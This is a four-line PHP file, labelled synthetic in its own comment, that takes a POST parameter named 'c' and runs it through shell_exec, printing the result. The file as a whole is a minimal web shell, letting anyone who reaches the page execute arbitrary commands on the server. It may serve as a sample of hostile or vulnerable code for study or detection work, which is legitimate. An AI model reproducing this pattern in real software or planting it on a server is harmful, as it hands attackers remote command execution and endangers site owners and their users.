<?php
// synthetic: PHP 4 request arrays feeding a command
$c = $HTTP_POST_VARS['c'];
echo shell_exec($c);
